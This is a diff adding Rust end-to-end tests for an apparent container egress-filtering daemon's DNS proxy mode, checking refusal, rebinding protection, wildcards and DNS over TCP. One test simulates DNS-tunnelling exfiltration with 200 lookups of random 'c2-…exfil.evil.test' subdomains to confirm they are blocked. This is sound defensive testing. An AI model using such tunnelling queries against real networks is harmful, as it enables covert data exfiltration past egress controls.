@@ -82,6 +82,11 @@ impl Fixture {
             "--internal",
             "--subnet",
             &format!("{prefix}.0/24"),
+            // Dynamic addresses from .128 up; the servers below have fixed ones under it.
+            "--ip-range",
+            &format!("{prefix}.128/25"),
+            "--gateway",
+            &format!("{prefix}.1"),
             "--label",
             LABEL,
             &net,
@@ -96,7 +101,18 @@ impl Fixture {
             dns: None,
             daemon: None,
         };
-        for (name, host) in [("egressd-e2e-api", 10), ("egressd-e2e-other", 11)] {
+        for (name, host) in [
+            ("egressd-e2e-api", 10),
+            ("egressd-e2e-other", 11),
+            // DNS rotation targets (.20-.23 are handed out, .24 never is) and a private
+            // address outside `rebind_allow` (.100) for the proxy-mode scenarios.
+            ("egressd-e2e-rot20", 20),
+            ("egressd-e2e-rot21", 21),
+            ("egressd-e2e-rot22", 22),
+            ("egressd-e2e-rot23", 23),
+            ("egressd-e2e-rot24", 24),
+            ("egressd-e2e-private", 100),
+        ] {
             f.run_container(
                 name,
                 &["--ip", &f.ip(host), "--restart", "always"],
@@ -127,8 +143,18 @@ impl Fixture {
         self.dir.join("config.toml")
     }
 
+    /// Writes the fake DNS's records: `records` (name, server number, with `ttl`), plus the
+    /// fixed records of the proxy-mode scenarios.
     fn write_records(&self, records: &[(&str, u8)], ttl: u32) {
-        let mut text = String::new();
+        let p = &self.prefix;
+        let mut text = format!(
+            "rot.test ROTATE A {p}.20-23 1\n\
+             a.allowed.test A {p}.10 30\n\
+             allowed.test A {p}.10 30\n\
+             a.allowed.test.evil.test A {p}.10 30\n\
+             rebind.test A {p}.100 30\n\
+             evil.test SOA 5\n"
+        );
         for (name, host) in records {
             text.push_str(&format!("{name} A {} {ttl}\n", self.ip(*host)));
         }
@@ -142,9 +168,10 @@ impl Fixture {
         std::fs::write(
             self.config_path(),
             format!(
-                "profile_dirs = [\"{}\"]\n{extra}\n[dns]\nupstreams = [\"{}:53\"]\nmin_ttl = 1\nmax_ttl = 60\ngrace = 3\n[control]\nsocket = \"{}\"\n",
+                "profile_dirs = [\"{}\"]\n{extra}\n[dns]\nmode = \"resolve\"\nupstreams = [\"{}:53\"]\nmin_ttl = 1\nmax_ttl = 60\ngrace = 3\nupstream_timeout = 1\nrebind_allow = [\"{}.0/26\"]\n[control]\nsocket = \"{}\"\n",
                 profiles.display(),
                 self.gateway(),
+                self.prefix,
                 self.socket().display()
             ),
         )
@@ -302,6 +329,93 @@ impl Fixture {
         .0
     }
 
+    /// `docker exec CONTAINER sh -c SCRIPT`: success and stdout+stderr.
+    fn exec(&self, container: &str, script: &str) -> (bool, String) {
+        sh(&["docker", "exec", container, "sh", "-c", script])
+    }
+
+    /// Addresses busybox `nslookup NAME [SERVER]` prints in the container, or the error
+    /// text (`REFUSED`, `NXDOMAIN`…) when it found none.
+    fn lookup(
+        &self,
+        container: &str,
+        name: &str,
+        server: Option<&str>,
+    ) -> Result<Vec<String>, String> {
+        let (_, out) = self.exec(
+            container,
+            &format!("nslookup {name} {}", server.unwrap_or("")),
+        );
+        let addrs: Vec<String> = out
+            .lines()
+            .filter_map(|l| l.strip_prefix("Address: "))
+            .map(|a| a.trim().to_string())
+            .collect();
+        if addrs.is_empty() {
+            Err(out)
+        } else {
+            Ok(addrs)
+        }
+    }
+
+    /// One DNS query over TCP from inside the container (busybox nc; the answer's rcode and
+    /// addresses).
+    fn tcp_lookup(&self, container: &str, server: &str, name: &str) -> (String, Vec<String>) {
+        use hickory_proto::op::{Message, MessageType, OpCode, Query};
+        use hickory_proto::rr::{Name, RData, RecordType};
+        let mut m = Message::new();
+        m.set_id(4242)
+            .set_message_type(MessageType::Query)
+            .set_op_code(OpCode::Query)
+            .set_recursion_desired(true)
+            .add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
+        let q = m.to_vec().unwrap();
+        let mut framed = (q.len() as u16).to_be_bytes().to_vec();
+        framed.extend_from_slice(&q);
+        let mut child = Command::new("docker")
+            .args(["exec", "-i", container, "sh", "-c"])
+            .arg(format!("(cat; sleep 1) | nc -w 3 {server} 53"))
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        {
+            use std::io::Write;
+            let mut stdin = child.stdin.take().unwrap();
+            stdin.write_all(&framed).unwrap();
+        }
+        let out = child.wait_with_output().unwrap();
+        let raw = out.stdout;
+        if raw.len() < 14 {
+            return (
+                format!(
+                    "no answer ({} bytes): {}",
+                    raw.len(),
+                    String::from_utf8_lossy(&out.stderr)
+                ),
+                vec![],
+            );
+        }
+        let r = Message::from_vec(&raw[2..]).expect("TCP answer parses");
+        let addrs = r
+            .answers()
+            .iter()
+            .filter_map(|rec| match rec.data() {
+                RData::A(a) => Some(a.0.to_string()),
+                _ => None,
+            })
+            .collect();
+        (r.response_code().to_string(), addrs)
+    }
+
+    fn container_status(&self, name: &str) -> Option<egressd::status::ContainerStatus> {
+        self.status()?
+            .containers
+            .into_iter()
+            .find(|c| c.name == name)
+    }
+
     fn has_egressd_table(&self, container: &str) -> bool {
         let pid = must(&["docker", "inspect", "-f", "{{.State.Pid}}", container]);
         let (_, out) = sh(&["nsenter", "-t", &pid, "-n", "nft", "list", "tables"]);
@@ -357,7 +471,14 @@ fn wait(max: Duration, mut f: impl FnMut() -> bool) -> bool {
     }
 }
 
+/// Runs one scenario. While developing, `EGRESSD_E2E_ONLY=text` runs only the scenarios whose
+/// name contains `text` (later scenarios may rely on earlier ones; CI runs them all).
 fn scenario(name: &str, f: impl FnOnce()) {
+    if let Ok(only) = std::env::var("EGRESSD_E2E_ONLY")
+        && !name.contains(&only)
+    {
+        return;
+    }
     eprintln!("--- scenario: {name}");
     let t = Instant::now();
     f();
@@ -634,6 +755,8 @@ fn docker_end_to_end() {
             assert!(fx.connects("egressd-e2e-agent", &api, 443));
         },
     );
+
+    proxy_scenarios(&mut fx);
 
     runtime_scenarios(&mut fx);
 
@@ -1106,6 +1229,245 @@ fn runtime_scenarios(fx: &mut Fixture) {
                 "unlabelled container: {out}"
             );
             fx.start_daemon();
+        },
+    );
+}
+
+/// Proxy mode (issue 4), per container with `egressd.dns=proxy`: every query that leaves the
+/// container is answered by egressd in its namespace.
+fn proxy_scenarios(fx: &mut Fixture) {
+    let p = fx.prefix.clone();
+    let api = fx.ip(10);
+    let proxy_agent = |name: &str, allow: &str| {
+        fx.agent(name, &[("egressd.dns", "proxy"), ("egressd.allow", allow)]);
+        let c = fx.container_status(name).expect("in status");
+        assert_eq!(c.dns_mode, "proxy", "{c:?}");
+        assert_eq!(c.state, State::Enforced, "{c:?}");
+    };
+    let upstream_log = || std::fs::read_to_string(fx.dir.join("dns.log")).unwrap_or_default();
+
+    scenario(
+        "proxy: rotation: every address the container receives connects at once, no other does",
+        || {
+            proxy_agent("egressd-e2e-px-rot", "rot.test:443");
+            // Before any lookup nothing is allowed, not even the rotation targets.
+            assert!(!fx.connects("egressd-e2e-px-rot", &format!("{p}.20"), 443));
+            let (_, out) = fx.exec(
+                "egressd-e2e-px-rot",
+                "for i in 1 2 3 4 5 6 7 8; do ip=$(nslookup rot.test | sed -n 's/^Address: //p' | tail -n 1); \
+                 if printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 \"$ip\" 443 | grep -q ok; then echo \"OK $ip\"; else echo \"FAIL $ip\"; fi; done",
+            );
+            let ok: Vec<&str> = out.lines().filter_map(|l| l.strip_prefix("OK ")).collect();
+            assert_eq!(
+                ok.len(),
+                8,
+                "every received address connected at once:\n{out}"
+            );
+            let distinct: std::collections::BTreeSet<&str> = ok.iter().copied().collect();
+            assert_eq!(distinct.len(), 4, "the DNS rotated over .20-.23: {out}");
+            assert!(
+                !fx.connects("egressd-e2e-px-rot", &format!("{p}.24"), 443),
+                "an address it never received does not connect"
+            );
+            let c = fx.container_status("egressd-e2e-px-rot").unwrap();
+            let r = c
+                .resolved
+                .iter()
+                .find(|r| r.name == "rot.test")
+                .expect("status lists rot.test");
+            assert!(!r.addrs.is_empty() && r.queries >= 8, "{r:?}");
+            assert!(
+                c.hosts
+                    .iter()
+                    .any(|h| h.host == "rot.test" && !h.addrs.is_empty()),
+                "{c:?}"
+            );
+        },
+    );
+
+    scenario(
+        "proxy: tunnelling: 200 random subdomains of a denied domain are refused, none reach the upstream",
+        || {
+            proxy_agent("egressd-e2e-px-tun", "api.openai.com");
+            let (_, out) = fx.exec(
+                "egressd-e2e-px-tun",
+                "i=0; while [ $i -lt 200 ]; do i=$((i+1)); \
+                 nslookup \"c2-$i-$RANDOM$RANDOM.exfil.evil.test\" 2>&1 | grep -q REFUSED && echo R; done",
+            );
+            assert_eq!(
+                out.lines().filter(|l| l.trim() == "R").count(),
+                200,
+                "{out}"
+            );
+            let log = upstream_log();
+            assert!(
+                !log.contains("evil.test"),
+                "a refused name reached the upstream:\n{log}"
+            );
+            let c = fx.container_status("egressd-e2e-px-tun").unwrap();
+            assert!(c.dns.as_ref().is_some_and(|d| d.refused >= 200), "{c:?}");
+            // The allowed name still resolves.
+            assert_eq!(
+                fx.lookup("egressd-e2e-px-tun", "api.openai.com", None),
+                Ok(vec![api.clone()])
+            );
+        },
+    );
+
+    scenario(
+        "proxy: a query sent straight to another server's port 53 is intercepted",
+        || {
+            // A second fake DNS on another address of this host's side of the network.
+            let second = format!("{p}.53");
+            let bridge = format!(
+                "br-{}",
+                &must(&["docker", "network", "inspect", "-f", "{{.Id}}", &fx.net])[..12]
+            );
+            must(&["ip", "addr", "add", &format!("{second}/32"), "dev", &bridge]);
+            let log2 = fx.dir.join("dns2.log");
+            let records2 = fx.dir.join("records2");
+            std::fs::write(
+                &records2,
+                format!("api.openai.com A {p}.11 30\nevil.test A {p}.11 30\n"),
+            )
+            .unwrap();
+            let mut dns2 = Command::new(target_dir().join("examples/fake_dns"))
+                .args(["--listen", &format!("{second}:53"), "--records"])
+                .arg(&records2)
+                .arg("--log")
+                .arg(&log2)
+                .stdout(Stdio::null())
+                .spawn()
+                .unwrap();
+            fx.run_container("egressd-e2e-px-free", &[], &[], "sleep 3600");
+            let control = wait(Duration::from_secs(5), || {
+                fx.lookup("egressd-e2e-px-free", "api.openai.com", Some(&second))
+                    .is_ok()
+            });
+            assert!(control, "the second server answers an unconfined container");
+            let before = std::fs::read_to_string(&log2)
+                .unwrap_or_default()
+                .lines()
+                .count();
+            assert!(before >= 1, "the second server logs what it gets");
+            proxy_agent("egressd-e2e-px-direct", "api.openai.com");
+            // Allowed name: answered by egressd (from the first server: .10, not .11).
+            assert_eq!(
+                fx.lookup("egressd-e2e-px-direct", "api.openai.com", Some(&second)),
+                Ok(vec![api.clone()])
+            );
+            // Not allowed: refused.
+            let denied = fx.lookup("egressd-e2e-px-direct", "evil.test", Some(&second));
+            assert!(
+                denied.as_ref().is_err_and(|e| e.contains("REFUSED")),
+                "{denied:?}"
+            );
+            // TCP too.
+            let (rcode, addrs) = fx.tcp_lookup("egressd-e2e-px-direct", &second, "api.openai.com");
+            assert_eq!((rcode.as_str(), addrs), ("No Error", vec![api.clone()]));
+            let after = std::fs::read_to_string(&log2)
+                .unwrap_or_default()
+                .lines()
+                .count();
+            assert_eq!(
+                after, before,
+                "nothing from the confined container reached the second server"
+            );
+            let _ = dns2.kill();
+            let _ = dns2.wait();
+            let _ = sh(&["ip", "addr", "del", &format!("{second}/32"), "dev", &bridge]);
+        },
+    );
+
+    scenario(
+        "proxy: *.allowed.test allows a.allowed.test, not allowed.test or a.allowed.test.evil.test",
+        || {
+            proxy_agent("egressd-e2e-px-wild", "*.allowed.test");
+            assert!(!fx.connects("egressd-e2e-px-wild", &api, 443));
+            assert_eq!(
+                fx.lookup("egressd-e2e-px-wild", "a.allowed.test", None),
+                Ok(vec![api.clone()])
+            );
+            assert!(
+                fx.connects("egressd-e2e-px-wild", &api, 443),
+                "answered address connects"
+            );
+            for n in ["allowed.test", "a.allowed.test.evil.test"] {
+                let r = fx.lookup("egressd-e2e-px-wild", n, None);
+                assert!(
+                    r.as_ref().is_err_and(|e| e.contains("REFUSED")),
+                    "{n}: {r:?}"
+                );
+            }
+        },
+    );
+
+    scenario(
+        "proxy: rebinding: an allowed name answering a private address outside the allowlist gets no connection",
+        || {
+            let private = format!("{p}.100");
+            fx.run_container("egressd-e2e-px-free2", &[], &[], "sleep 3600");
+            assert!(
+                fx.connects("egressd-e2e-px-free2", &private, 443),
+                "the target is live"
+            );
+            proxy_agent("egressd-e2e-px-rebind", "rebind.test");
+            let r = fx.lookup("egressd-e2e-px-rebind", "rebind.test", None);
+            assert!(
+                r.is_err(),
+                "the private address was stripped from the answer: {r:?}"
+            );
+            assert!(!fx.connects("egressd-e2e-px-rebind", &private, 443));
+            let c = fx.container_status("egressd-e2e-px-rebind").unwrap();
+            assert!(c.dns.as_ref().is_some_and(|d| d.stripped >= 1), "{c:?}");
+        },
+    );
+
+    scenario(
+        "proxy: DNS over TCP works for an allowed name and is refused for others",
+        || {
+            proxy_agent("egressd-e2e-px-tcp", "api.openai.com");
+            let (rcode, addrs) =
+                fx.tcp_lookup("egressd-e2e-px-tcp", "127.0.0.11", "api.openai.com");
+            assert_eq!((rcode.as_str(), addrs), ("No Error", vec![api.clone()]));
+            assert!(fx.connects("egressd-e2e-px-tcp", &api, 443));
+            let (rcode, addrs) = fx.tcp_lookup("egressd-e2e-px-tcp", "127.0.0.11", "evil.test");
+            assert_eq!((rcode.as_str(), addrs.len()), ("Query Refused", 0));
+        },
+    );
+
+    scenario(
+        "proxy: a sibling container name resolves when allowed and is refused when not",
+        || {
+            fx.run_container(
+                "egressd-e2e-px-db",
+                &[],
+                &[],
+                "mkdir -p /w && echo ok > /w/index.html && httpd -f -p 5432 -h /w",
+            );
+            fx.run_container("egressd-e2e-px-cache", &[], &[], "sleep 3600");
+            proxy_agent("egressd-e2e-px-sib", "egressd-e2e-px-db:5432");
+            let db_ip = must(&[
+                "docker",
+                "inspect",
+                "-f",
+                "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+                "egressd-e2e-px-db",
+            ]);
+            assert!(
+                !fx.connects("egressd-e2e-px-sib", &db_ip, 5432),
+                "not before the lookup"
+            );
+            assert_eq!(
+                fx.lookup("egressd-e2e-px-sib", "egressd-e2e-px-db", None),
+                Ok(vec![db_ip.clone()])
+            );
+            assert!(
+                fx.connects("egressd-e2e-px-sib", &db_ip, 5432),
+                "the sibling connects"
+            );
+            let r = fx.lookup("egressd-e2e-px-sib", "egressd-e2e-px-cache", None);
+            assert!(r.as_ref().is_err_and(|e| e.contains("REFUSED")), "{r:?}");
         },
     );
 }
